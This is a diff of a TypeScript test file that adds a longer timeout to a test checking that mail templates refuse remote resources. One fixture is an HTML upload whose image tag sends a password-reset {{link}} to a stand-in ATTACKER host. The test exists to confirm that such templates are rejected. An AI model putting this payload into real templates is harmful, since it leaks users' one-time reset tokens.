@@ -86,42 +86,47 @@ describeEachDialect('a mail template cannot send a one-time link elsewhere (issu
   const LIVE_TOKEN = /token=[\w-]/;
   const partsOf = (mail: ParsedMail | undefined) => [mail?.subject ?? '', mail?.text ?? '', String(mail?.html)];
 
-  it('refuses remote resources in the HTML part and the HTML file of every kind, naming what it found', async () => {
-    const c = ctx();
-    const { content, idOf } = await setup(c);
-    for (const kind of ['reminder', 'password_reset', 'appointment_request']) {
-      for (const [what, bodyHtml] of REMOTE_HTML) {
-        const res = await content.post(`/api/mail-template/${idOf(kind)}`, {
-          locales: { 'de-DE': { subject: 'Betreff', bodyText: 'Text', bodyHtml } },
-        });
-        expect(res.statusCode, `${kind}: ${what}`).toBe(400);
-        expect(res.json(), `${kind}: ${what}`).toMatchObject({
-          error: 'template_remote_resource',
-          details: { locale: 'de-DE', field: 'bodyHtml' },
-        });
+  // 23 saves, previews and uploads, each parsing its HTML: 13 s alone on a busy machine, so more than the default.
+  it(
+    'refuses remote resources in the HTML part and the HTML file of every kind, naming what it found',
+    { timeout: 90_000 },
+    async () => {
+      const c = ctx();
+      const { content, idOf } = await setup(c);
+      for (const kind of ['reminder', 'password_reset', 'appointment_request']) {
+        for (const [what, bodyHtml] of REMOTE_HTML) {
+          const res = await content.post(`/api/mail-template/${idOf(kind)}`, {
+            locales: { 'de-DE': { subject: 'Betreff', bodyText: 'Text', bodyHtml } },
+          });
+          expect(res.statusCode, `${kind}: ${what}`).toBe(400);
+          expect(res.json(), `${kind}: ${what}`).toMatchObject({
+            error: 'template_remote_resource',
+            details: { locale: 'de-DE', field: 'bodyHtml' },
+          });
+        }
       }
-    }
-    const upload = multipart('mail.html', `<html><body><img src="${ATTACKER}/p?{{link}}"></body></html>`);
-    const file = await content.inject({
-      method: 'POST',
-      url: `/api/mail-template/${idOf('password_reset')}/file/de-DE`,
-      payload: upload.payload,
-      headers: upload.headers,
-    });
-    expect(file.statusCode).toBe(400);
-    expect(file.json()).toMatchObject({ error: 'template_remote_resource', details: { field: 'htmlFile' } });
-    // The preview applies the same rules to a draft.
-    const preview = await content.post(`/api/mail-template/${idOf('reminder')}/preview`, {
-      locale: 'en-US',
-      content: { bodyHtml: REMOTE_HTML[0]?.[1] },
-    });
-    expect(preview.json()).toMatchObject({ error: 'template_remote_resource' });
-    // Nothing was stored.
-    const kept = (await content.get(`/api/mail-template/${idOf('password_reset')}`)).json<{
-      locales: { bodyHtml: string | null; htmlFileName: string | null }[];
-    }>();
-    expect(kept.locales.every((l) => l.bodyHtml === null && l.htmlFileName === null)).toBe(true);
-  });
+      const upload = multipart('mail.html', `<html><body><img src="${ATTACKER}/p?{{link}}"></body></html>`);
+      const file = await content.inject({
+        method: 'POST',
+        url: `/api/mail-template/${idOf('password_reset')}/file/de-DE`,
+        payload: upload.payload,
+        headers: upload.headers,
+      });
+      expect(file.statusCode).toBe(400);
+      expect(file.json()).toMatchObject({ error: 'template_remote_resource', details: { field: 'htmlFile' } });
+      // The preview applies the same rules to a draft.
+      const preview = await content.post(`/api/mail-template/${idOf('reminder')}/preview`, {
+        locale: 'en-US',
+        content: { bodyHtml: REMOTE_HTML[0]?.[1] },
+      });
+      expect(preview.json()).toMatchObject({ error: 'template_remote_resource' });
+      // Nothing was stored.
+      const kept = (await content.get(`/api/mail-template/${idOf('password_reset')}`)).json<{
+        locales: { bodyHtml: string | null; htmlFileName: string | null }[];
+      }>();
+      expect(kept.locales.every((l) => l.bodyHtml === null && l.htmlFileName === null)).toBe(true);
+    },
+  );
 
   it('accepts {{link}} in a reset template only on its own line and as the exact href (and text) of a link', async () => {
     const c = ctx();
